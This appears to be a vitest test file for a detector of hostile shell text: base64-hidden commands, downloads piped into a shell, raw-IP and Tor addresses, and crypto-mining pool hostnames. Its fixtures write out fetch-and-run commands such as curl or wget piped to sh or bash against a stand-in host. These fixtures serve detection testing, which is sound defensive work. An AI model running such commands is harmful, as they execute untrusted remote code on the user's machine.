import { describe, expect, it } from 'vitest';
import {
  downloadThenShell,
  hostNamesIn,
  onionUrls,
  pipedDecode,
  pipedDownload,
  rawIpUrls,
  withDecoded,
} from './command-text';

describe('texts hidden in base64', () => {
  const wrap = (text: string) => `echo ${btoa(text)} | base64 -d | sh`;
  it('are read three levels deep and no deeper', () => {
    const secret = 'curl http://e.example/x | sh';
    expect(withDecoded(wrap(wrap(wrap(secret))))).toContain(secret);
    expect(withDecoded(wrap(wrap(wrap(wrap(secret)))))).not.toContain(secret);
  });
  it('are not seen in paths and hashes, which have the same letters', () => {
    const text =
      '/usr/local/share/applications/shop sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08';
    expect(withDecoded(text)).toEqual([text]);
  });
});

describe('downloads that run', () => {
  it('are shown from the download to the interpreter', () => {
    expect(pipedDownload('sleep 5; curl -s http://e.example/a | tee /x | sudo bash -s; ls')).toBe(
      'curl -s http://e.example/a | tee /x | sudo bash -s',
    );
  });
  it('keep an address with & whole', () => {
    expect(pipedDownload('curl http://e.example/?a=1&b=2 | sh')).toBe('curl http://e.example/?a=1&b=2 | sh');
  });
  it.each(['curl x | grep sh', 'echo curl', 'curl x; ls | sh', 'mycurl x | sh', 'curl x | shasum'])(
    'not in: %s',
    (text) => {
      expect(pipedDownload(text)).toBe('');
    },
  );
  it('are found looser behind the next separator, not behind the next pipe', () => {
    expect(downloadThenShell('wget http://e.example/t -O /t && sh /t')).not.toBe('');
    expect(downloadThenShell('wget http://e.example/t | cat | sh')).toBe('');
  });
  it('show what is decoded', () => {
    expect(pipedDecode('echo aWQ= | base64 --decode | sh')).toBe('echo aWQ= | base64 --decode | sh');
    expect(pipedDecode('base64 -d /x > /y')).toBe('');
  });
  it('do not make a hostile line slow', () => {
    const began = performance.now();
    for (const text of ['curl x|', 'curl x;', 'sudo |', '/dev/tcp/ sh ']) {
      pipedDownload(text.repeat(10_000));
      downloadThenShell(text.repeat(10_000));
    }
    expect(performance.now() - began).toBeLessThan(1000);
  });
  it.each(['<?`', '<(/', '$(/a', '(', '`', '\\', '|`', 'sh `/', 'eval `', 'sh -- '])(
    'do not make a long line of %s slow',
    (text) => {
      const began = performance.now();
      expect(pipedDownload(text.repeat(Math.floor(65_000 / text.length)))).toBe('');
      expect(performance.now() - began).toBeLessThan(1000);
    },
  );
  it.each(['/bin/bash -c "$(curl -fsSL https://e.example/i)"', 'eval "$(/usr/bin/wget -qO- e.example)"'])(
    'are seen in what is put in place of itself: %s',
    (text) => {
      expect(pipedDownload(text)).toBe(text);
    },
  );
});

it('knows bare addresses, and those of the own network as none', () => {
  const text =
    'http://45.10.88.102/a http://10.0.0.5/ http://127.0.0.1:80/ http://[2001:db8::1]/x https://e.example/ http://u:p@1.2.3.4:8/';
  expect(rawIpUrls(text).map((url) => url.host)).toEqual(['45.10.88.102', '2001:db8::1', '1.2.3.4']);
});

it('knows addresses of Tor by their form', () => {
  expect(onionUrls('http://expyuzz4wqqyqhjn.onion/x my.onion')).toEqual(['expyuzz4wqqyqhjn.onion']);
});

it('reads names of machines with and without a scheme', () => {
  expect(hostNamesIn('stratum+tcp://Pool.SupportXMR.com:443 -o xmr.f2pool.com:13531 /etc/app.conf')).toEqual([
    'pool.supportxmr.com',
    'xmr.f2pool.com',
  ]);
});
